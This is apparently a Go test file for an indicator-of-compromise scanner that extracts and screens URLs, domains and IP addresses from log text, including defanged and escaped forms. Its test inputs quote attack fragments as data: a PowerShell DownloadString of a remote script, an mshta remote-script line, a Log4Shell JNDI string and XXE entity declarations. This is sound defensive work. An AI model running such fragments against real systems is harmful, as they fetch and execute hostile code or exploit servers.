package ioc

import (
	"strings"
	"testing"
)

func TestScanURL(t *testing.T) {
	runScanCases(t, Config{}, []scanCase{
		// an algorithm's or a security policy's URI identifies it, as a namespace does; a link under another key stays one
		{`<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/> SecurityPolicy http://opcfoundation.org/UA/SecurityPolicy#Basic256Sha256 {"securityPolicyUri":"http://opcfoundation.org/UA/SecurityPolicy#None"}`, nil},
		// an OPC UA namespace's URI, under its key or a label starting with "namespace"; a namespace's key glued to a value before is none
		{"Namespace ns=4 registered: http://www.euromap.org/euromap77/ NamespaceUri: http://opcfoundation.org/UA/DI/ namespace=prod pod pulled: http://evil.com/x", []string{"url http://evil.com/x"}},
		{"Namespace URI: http://www.euromap.org/x/", nil},
		// ...a Kubernetes namespace is a plain name before the URL's key
		{"Created webhook in namespace default url: https://evil-c2.ru/hook; Namespace prod Source: http://evil-c2.ru/x.sh", []string{"url https://evil-c2.ru/hook", "url http://evil-c2.ru/x.sh"}},
		// XBRL's schemaRef names a taxonomy's schema
		{`{"schemaRef":"http:\/\/xbrl.efrag.org\/taxonomy\/esrs\/2023-12-22\/esrs_all.xsd","next":"https:\/\/evil.com\/x"}`, []string{"url https://evil.com/x"}},
		// DataCite's schemaVersion, its kernel's URI
		{`{"version":"2.1.0.4","schemaVersion":"http://datacite.org/schema/kernel-4","url":"https://evil.com/x"}`, []string{"url https://evil.com/x"}},
		// a JSON-LD context's IRIs, in its array and its object, and @vocab; other links stay links
		{`{"@context":["https://geojson.org/geojson-ld/geojson-context.jsonld",{"wx":"https://api.weather.gov/ontology#","@vocab":"https://api.weather.gov/ontology#"}],"id":"https://evil.com/alerts/1","links":["https://evil.com/x"]}`, []string{"url https://evil.com/alerts/1", "url https://evil.com/x"}},
		// an algorithm's URI under a key ending in the word, or after "algorithm URI"; another URI stays a link
		{`Validating signature with signature algorithm URI: http://www.w3.org/2001/04/xmldsig-more#rsa-sha256 callback URI: https://evil.com/x idp_cert_fingerprint_algorithm=http://www.w3.org/2000/09/xmldsig#sha1 signatureAlgorithm=http://www.w3.org/2001/04/xmldsig-more#rsa-sha256`, []string{"url https://evil.com/x"}},
		// an XML parser's feature URI; SAML's authentication context class (SPID's); an entity's SYSTEM URL and an issuer stay links
		{`DOCTYPE is disallowed when the feature "http://apache.org/xml/features/disallow-doctype-decl" set to true; <!ENTITY % x SYSTEM "http://91.215.152.44:8080/e.dtd"> <saml:AuthnContextClassRef>https://www.spid.gov.it/SpidL2</saml:AuthnContextClassRef> <saml:Issuer>https://evil-idp.com</saml:Issuer>`, []string{"url http://91.215.152.44:8080/e.dtd", "url https://evil-idp.com"}},
		{`policy http://evil.com/p algorithm x http://evil.org/a`, []string{"url http://evil.com/p", "url http://evil.org/a"}},
		// a schema's URI under a key naming it (CloudEvents' dataschema, OpenTelemetry's schemaUrl); a link under another key stays one
		{`{"dataschema":"https://events-schemas.twilio.com/TaskRouter.WDSEvent/1","schemaUrl":"https://opentelemetry.io/schemas/1.21.0","link":"https://evil.com/s"}`, []string{"url https://evil.com/s"}},
		{"http://evil.com", []string{"url http://evil.com"}},
		// a URL inside a single-quoted literal that opened earlier ends at its closing quote (SAP HANA's audit); an apostrophe in a word opens none
		{`IS 'used for exfil to hxxps://paste-drop[.]cc/r/8KqZ2';301004;; the attacker's site https://evil.com/a'b x`, []string{
			"url https://paste-drop.cc/r/8KqZ2", "url https://evil.com/a'b"}},
		// a transport's peer, as Java prints a socket's address after an empty or one-label host (ActiveMQ); a file: URL's path is a path
		{`tcp:///185.243.115.84:50812@61616 tcp://mq-prod-02/10.20.12.8:61616@41222 file:///8.8.8.8/x`, []string{
			"url tcp:///185.243.115.84:50812@61616 unsupported-scheme", "ipv4 185.243.115.84",
			"url tcp://mq-prod-02/10.20.12.8:61616@41222 unsupported-scheme", "dns mq-prod-02 unqualified", "ipv4 10.20.12.8 private",
			"url file:///8.8.8.8/x unsupported-scheme"}},
		// a comma in a query is kept, but not one before another URL
		{`mshta.exe "javascript:a=GetObject('script:https://paste.ee/r/Xk2qP/0');close();"`, []string{
			"dns mshta.exe unknown-tld", "url https://paste.ee/r/Xk2qP/0"}},
		{"x,https://evil.com/a?client_id...,https://evil.com/a?client_id=1,2&r=3 x", []string{
			"url https://evil.com/a?client_id", "url https://evil.com/a?client_id=1,2&r=3"}},
		{"GET https://Evil.COM/Path/To?Q=1&R=2#Frag HTTP/1.1", []string{"url https://evil.com/Path/To?Q=1&R=2#Frag"}},
		{"HTTPS://EVIL.COM/X", []string{"url https://evil.com/X"}},
		{"ftp://files.evil.com/a.bin", []string{"url ftp://files.evil.com/a.bin"}},
		{"http://evil.com:8080/x", []string{"url http://evil.com:8080/x"}},
		{"http://user:pw@evil.com/x", []string{"url http://user:pw@evil.com/x"}},
		{"http://evil.com./x", []string{"url http://evil.com/x"}},
		// trailing punctuation and brackets
		{"see http://evil.com/a.", []string{"url http://evil.com/a"}},
		{"http://evil.com/a, http://evil.net/b; http://evil.org/c:", []string{"url http://evil.com/a", "url http://evil.net/b", "url http://evil.org/c"}},
		{"(see http://evil.com/a)", []string{"url http://evil.com/a"}},
		{"http://en.wikipedia.org/wiki/Foo_(bar)", []string{"url http://en.wikipedia.org/wiki/Foo_(bar)"}},
		{"(http://en.wikipedia.org/wiki/Foo_(bar))!", []string{"url http://en.wikipedia.org/wiki/Foo_(bar)"}},
		// a scheme of words joined by '-' (an Android app link, an extension), its
		// package no host; a word glued before a scheme looked up is no part of it
		{"android-app://com.google.android.gm/ chrome-extension://abc/x.html redirect-https://evil.com/x ldap://com.evil.org.ru/a", []string{
			"url android-app://com.google.android.gm/ unsupported-scheme", "url chrome-extension://abc/x.html unsupported-scheme", "dns abc unqualified",
			"url https://evil.com/x", "url ldap://com.evil.org.ru/a unsupported-scheme", "dns com.evil.org.ru"}},
		// ...with digits in its words (Sonos' radio stream); a scheme wrapped around a URL looked up (TuneIn's aac://) gives way to it
		{"x-rincon-mp3radio://stream.evil.com.ua:8000/live aac://http://stream.evil.net:8010/aac64", []string{
			"url x-rincon-mp3radio://stream.evil.com.ua:8000/live unsupported-scheme", "dns stream.evil.com.ua", "url http://stream.evil.net:8010/aac64"}},
		// a bracketed field's one-letter tag glued before the scheme (SIA DC-09's video verification field); a word glued before is a scheme's own
		{"#4521[#4521|Nri2/BA007][Vhttps://clips.evil.net/v/7Hq2Lp?acct=4521][X-87.6298] x Vhttps://evil.com/x", []string{
			"url https://clips.evil.net/v/7Hq2Lp?acct=4521", "url vhttps://evil.com/x unsupported-scheme", "dns evil.com"}},
		// an OPC UA security policy's URI under any key; another page of the same site is a link
		{"SecureChannel 41 opened policy=http://opcfoundation.org/UA/SecurityPolicy#Aes128_Sha256_RsaOaep docs=https://opcfoundation.org/developer-tools/", []string{
			"url https://opcfoundation.org/developer-tools/"}},
		// an asset path between '@'s (USD) ends at its '@'; a user's '@' in a path stays
		{"Could not open asset @https://cdn.evil.com/packs/crate.usdz@ for reference; see https://x.evil.com/@user/x ok", []string{
			"url https://cdn.evil.com/packs/crate.usdz", "url https://x.evil.com/@user/x"}},
		{"x @https://evil.com/a?u=x@y.com ok", []string{"url https://evil.com/a?u=x@y.com"}}, // an '@' inside it stays
		// a Windows symbol path's elements (WinDbg); ';' stays in a path elsewhere (matrix parameters)
		{`Symbol search path is: srv*C:\Symbols*https://msdl.evil.com/download/symbols;srv*C:\Symbols*https://sym.evil.net/s https://evil.org/a;jsessionid=1`, []string{
			"url https://msdl.evil.com/download/symbols", "url https://sym.evil.net/s", "url https://evil.org/a;jsessionid=1"}},
		// a WS-Management resource URI names a shell or a class (WinRM); another key's URL is a link
		{`Creating WSMan shell on server with ResourceUri: http://schemas.microsoft.com/powershell/Microsoft.PowerShell <w:ResourceURI>x</w:ResourceURI> "resourceUri":"http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/Win32_Service" uri: http://evil.com/x`, []string{"url http://evil.com/x"}},
		// OData's metadata URL names a schema (Graph's @odata.context); another key's URL is a link
		{`{"@odata.context":"https://graph.microsoft.com/v1.0/$metadata#users","next":"https://evil.com/x"}`, []string{"url https://evil.com/x"}},
		// an opening bracket ends none (WSO2's wire log writes CR LF as [\r][\n]); a pair before it stays
		{`"Referer: https://evil.top/gh/p.js[\r][\n]" http://evil.com/w/Foo_(bar)( x`, []string{"url https://evil.top/gh/p.js", "url http://evil.com/w/Foo_(bar)"}},
		// a ']' that closes no '[' of the URL ends it (CMTrace's <![LOG[...]LOG]!>, Snort's
		// glued Xrefs); a query's brackets are kept
		{"<![LOG[content url https://cdn.evil.com/a/b.bin]LOG]!><time=", []string{"url https://cdn.evil.com/a/b.bin"}},
		{"[Xref => http://evil.com/x?name=1][Xref => http://evil.org/y?ids[0]=5&a[]=1]", []string{"url http://evil.com/x?name=1", "url http://evil.org/y?ids[0]=5&a[]=1"}},
		// in a record of ';'-separated pairs a URL ends at the next pair; elsewhere ';' is the URL's
		{"jump_method=Web Jump;url=https://bms.evil.com/admin/login.aspx;vendor_group=HVAC x=http://evil.com/a;jsessionid=1;b=2", []string{
			"url https://bms.evil.com/admin/login.aspx", "url http://evil.com/a;jsessionid=1;b=2"}},
		// an HTML entity for a byte that ends a URL ends it (ZAP's escaped HTML in XML); "&lt=" is a query's
		{"<reference>&lt;p&gt;https://evil.com/x.html&lt;/p&gt;&lt;p&gt;https://evil.org/TR/&lt;/p&gt; http://evil.net/?a=1&lt=2&b", []string{
			"url https://evil.com/x.html", "url https://evil.org/TR/", "url http://evil.net/?a=1&lt=2&b"}},
		// a scheme may hold digits after its first letter; what is inside an unsupported URL stays inside
		{"CodeUri: s3://acme-sam-artifacts/23de5e8bf5cfdcb9460954ed33e1ef38", []string{
			"url s3://acme-sam-artifacts/23de5e8bf5cfdcb9460954ed33e1ef38 unsupported-scheme", "dns acme-sam-artifacts unqualified"}},
		// ...but a file: URL is a local path: a hash in it is a file's (Ghidra's FSRL)
		{"FSRL: file:///C:/Cases/a8f3c2.bin?MD5=600480a1c510b3f1f5758436dadcf91c", []string{
			"url file:///C:/Cases/a8f3c2.bin?MD5=600480a1c510b3f1f5758436dadcf91c unsupported-scheme", "md5_hash 600480a1c510b3f1f5758436dadcf91c"}},
		// a comma right after '?' ends the URL: an empty query, then the next CSV field
		{"Matched Data: http://91.240.118.172/shell.txt?,REQUEST-931.conf,x http://evil.com/q?a=1,2", []string{"url http://91.240.118.172/shell.txt", "dns request-931.conf unknown-tld", "url http://evil.com/q?a=1,2"}},
		{`"http://evil.com/a"`, []string{"url http://evil.com/a"}},
		{"<http://evil.com/a>", []string{"url http://evil.com/a"}},
		{"'http://evil.com/a'", []string{"url http://evil.com/a"}},
		{"DownloadString('http://evil.com/a.ps1');", []string{"url http://evil.com/a.ps1"}},
		{"'http://evil.com/a','http://evil.net/b'", []string{"url http://evil.com/a", "url http://evil.net/b"}},
		{"[http://evil.com/a]", []string{"url http://evil.com/a"}},
		{"http://evil.com/it's", []string{"url http://evil.com/it's"}},
		{"http://evil.com/a\\b", []string{"url http://evil.com/a"}},
		{"http://evil.com/ünïcode", []string{"url http://evil.com/"}},
		// defanged
		{"hxxp://evil[.]com/a", []string{"url http://evil.com/a"}},
		{"hXXps://evil[.]com[/]a[.]php", []string{"url https://evil.com/a.php"}},
		{"http[:]//evil.com/x", []string{"url http://evil.com/x"}},
		{"https[://]evil(.)com", []string{"url https://evil.com"}},
		{"fxp://evil[dot]com/f", []string{"url ftp://evil.com/f"}},
		{"h**ps://wallet-connect-verify[.]shop/api/submit.php H**P://evil.com/x", []string{"url https://wallet-connect-verify.shop/api/submit.php", "url http://evil.com/x"}},
		{"**http://evil.com/x** x**p://evil.com/y", []string{"url http://evil.com/x", "dns evil.com"}},
		{"hxxp://1.2.3[.]4/x", []string{"url http://1.2.3.4/x"}},
		{"hxxp://user[at]evil[.]com/", []string{"url http://user@evil.com/"}},
		{"evil[.]com[:]8080", []string{"dns evil.com"}},
		{"hxxp://evil[.]com[:]8080/x", []string{"url http://evil.com:8080/x"}},
		// escaped: JSON writes "\/" for '/', CEF "\=" for '='
		{`"url":"http:\/\/cdn-bad.org\/x\/y.php"`, []string{"url http://cdn-bad.org/x/y.php"}},
		{`{"refer":"https:\/\/Login-Verify.top\/owa\/?s=7f3a","u":"http:\/\/45.77.12.3\/x86.sh"}`, []string{"url https://login-verify.top/owa/?s=7f3a", "url http://45.77.12.3/x86.sh"}},
		{`"http:\/\/cdn-bad.org\/"`, []string{"url http://cdn-bad.org/"}},
		{`requestUrl=https://cdn-bad.org/p?id\=42&t\=17 dhost=x`, []string{"url https://cdn-bad.org/p?id=42&t=17"}},
		// a multiaddr's host (IPFS, libp2p); a path's file elsewhere
		{`"addrs":["/dns4/ipfs-node.evil-cdn.net/tcp/4001","/dnsaddr/bootstrap.evil.io"] GET /files/evil.net/x`, []string{"dns ipfs-node.evil-cdn.net", "dns bootstrap.evil.io"}},
		// a JSON document's $schema and JSON-LD's @context name schemas, as namespaces do; another key's URL is a link
		{`{"$schema":"https://json.schemastore.org/sarif-2.1.0.json","@context":"http://schemas.ultradns.com/SBPool.jsonschema","href":"http://evil.com/x"}`, []string{"url http://evil.com/x"}},
		// ...and Go's JSON encoder "\u0026" for '&' (step-ca), "\u003d" for '='; another \u escape ends it
		{`"error":"POST https://hooks.evil.io/enrich?tenant=acme\u0026kind=x509\u003D1 returned 502" https://evil.com/a?b=1\u0027x`, []string{
			"url https://hooks.evil.io/enrich?tenant=acme&kind=x509=1", "url https://evil.com/a?b=1"}},
		{`http:/evil.com http:\\evil.com`, []string{"dns evil.com", "dns evil.com"}},
		// screened
		{"http://server/file.sct", []string{"url http://server/file.sct unqualified"}},
		{"http://127.0.0.1/ http://10.0.0.5:8000/x", []string{"url http://127.0.0.1/ loopback", "url http://10.0.0.5:8000/x private"}},
		{"http://169.254.169.254/latest/meta-data/", []string{"url http://169.254.169.254/latest/meta-data/ link-local"}},
		{"http://[::1]:8080/ http://[2001:4860:4860::8888]/", []string{"url http://[::1]:8080/ loopback", "url http://[2001:4860:4860::8888]/"}},
		{"http://[::ffff:8.8.8.8]/x", []string{"url http://8.8.8.8/x"}},
		{"http://localhost:3000/ http://printer.local/", []string{"url http://localhost:3000/ unqualified", "url http://printer.local/ special-use"}},
		{"http://intranet.corp/x", []string{"url http://intranet.corp/x unknown-tld"}},
		{"http://setup.zip/ http://www.example.com/", []string{"url http://setup.zip/", "url http://www.example.com/ documentation"}},
		{"file:///C:/Windows/x.dll", []string{"url file:///C:/Windows/x.dll unsupported-scheme"}},
		// a URL VirusTotal cannot look up gives its host instead
		{"ldap://dc.corp.com/x smb://evil.com/share", []string{"url ldap://dc.corp.com/x unsupported-scheme", "dns dc.corp.com", "url smb://evil.com/share unsupported-scheme", "dns evil.com"}},
		{"C://Windows http:// https:///x", nil},
		{"jdbc:mysql://db.evil.com:3306/x", []string{"url mysql://db.evil.com:3306/x unsupported-scheme", "dns db.evil.com"}},
		{"${jndi:ldap://5.188.206.14:1389/a} tcp://[2a01:4f8:c17:b8f::2]:4444 ws://backups/x", []string{
			"url ldap://5.188.206.14:1389/a unsupported-scheme", "ipv4 5.188.206.14",
			"url tcp://[2a01:4f8:c17:b8f::2]:4444 unsupported-scheme", "ipv6 2a01:4f8:c17:b8f::2",
			"url ws://backups/x unsupported-scheme", "dns backups unqualified"}},
		// XML namespaces and schema locations are names, not links
		{`<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><ioc xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation="http://x.org/a http://x.org/a.xsd">`, nil},
		// an unsupported scheme's host with '_' in its registrable label is none (Ray's package store)
		{"gcs://_ray_pkg_5ff445aab6d2276a.zip smb://my_host.evil.net/x", []string{
			"url gcs://_ray_pkg_5ff445aab6d2276a.zip unsupported-scheme", "url smb://my_host.evil.net/x unsupported-scheme", "dns my_host.evil.net"}},
		// ...nor a package's name in title case (an http URL's host is a host however written)
		{"ms-resource://Microsoft.Windows.Photos/Resources/AppStoreName ldap://Evil.Store/x http://Evil.Store/y", []string{
			"url ms-resource://microsoft.windows.photos/Resources/AppStoreName unsupported-scheme", "url ldap://evil.store/x unsupported-scheme", "url http://evil.store/y"}},
		// a DOCTYPE's and a namespace's quotes escaped in a JSON string (HTML in an e-mail event)
		{`{"body": "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"http://evil.com/x\">"}`, []string{"url http://evil.com/x"}},
		// a JSON object's key in URL form names a claim (LTI 1.3, OIDC's namespaced claims); its value, or a quoted URL in prose, is a link
		{`{"https://purl.imsglobal.org/spec/lti/claim/roles": ["http://purl.evil.org/x#L"], "https://acme.auth0.com/roles":"a", "c":"{\"https://x.evil.com/k\":1}"} see "http://evil.net/a": ok`, []string{
			"url http://purl.evil.org/x#L", "url http://evil.net/a"}},
		// a DOCTYPE's system identifier after a public one names a DTD; a SYSTEM one, or an entity's (XXE), is a link
		{`<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><!DOCTYPE r SYSTEM "http://evil.com/a.dtd"><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.net/x.dtd">]>`, []string{
			"url http://evil.com/a.dtd", "url http://evil.net/x.dtd"}},
		{`<a href="http://evil.com/x">`, []string{"url http://evil.com/x"}},
		// VirusTotal's own links (a vt_permalink re-read) name its pages:
		// screened, and nothing inside them is looked up
		{"https://www.virustotal.com/gui/file/" + sha256a + "/detection", []string{"url https://www.virustotal.com/gui/file/" + sha256a + "/detection virustotal"}},
		{"x,https://www.virustotal.com/gui/domain/cdn-bad.org,https://www.virustotal.com/gui/url/" + sha256a, []string{
			"url https://www.virustotal.com/gui/domain/cdn-bad.org virustotal", "url https://www.virustotal.com/gui/url/" + sha256a + " virustotal"}},
		{"https://www.virustotal.com/gui/search?query=http://evil.com/x see virustotal.com, notvirustotal.com", []string{
			"url https://www.virustotal.com/gui/search?query=http://evil.com/x virustotal", "dns virustotal.com virustotal", "dns notvirustotal.com"}},
		// what is inside a URL
		{"https://www.google.com/url?q=http://evil.com/x", []string{"url https://www.google.com/url?q=http://evil.com/x", "url http://evil.com/x"}},
		{"http://evil.com/d41d8cd98f00b204e9800998ecf8427e/setup.zip", []string{"url http://evil.com/d41d8cd98f00b204e9800998ecf8427e/setup.zip"}},
		{"http://1.2.3.4/x 5.6.7.8", []string{"url http://1.2.3.4/x", "ipv4 5.6.7.8"}},
		{"http://evil.com/" + strings.Repeat("a", 5000) + " x", []string{"url http://evil.com/" + strings.Repeat("a", 5000)}},
		{`"http://somedomain/furry-kitten-names-1.jpg' ^-d`, []string{"url http://somedomain/furry-kitten-names-1.jpg unqualified"}},
	})
}

func TestScanURLHosts(t *testing.T) {
	runScanCases(t, Config{URLHosts: true}, []scanCase{
		{"hxxp://evil[.]com/a", []string{"url http://evil.com/a", "dns evil.com"}},
		{"http://server/x", []string{"url http://server/x unqualified", "dns server unqualified"}},
		{"http://10.0.0.1/x", []string{"url http://10.0.0.1/x private", "ipv4 10.0.0.1 private"}},
		{"http://[2001:4860:4860::8888]/", []string{"url http://[2001:4860:4860::8888]/", "ipv6 2001:4860:4860::8888"}},
		{"file:///C:/x", []string{"url file:///C:/x unsupported-scheme"}},
		{"http://setup.zip/", []string{"url http://setup.zip/", "dns setup.zip"}},
	})
	// Without URLs wanted, their hosts are reported on their own.
	dns, _ := ParseTypeSet("dns,ipv4")
	runScanCases(t, Config{Types: dns}, []scanCase{
		{"http://evil.com/a http://8.8.8.8/ b.evil.net", []string{"dns evil.com", "ipv4 8.8.8.8", "dns b.evil.net"}},
	})
}
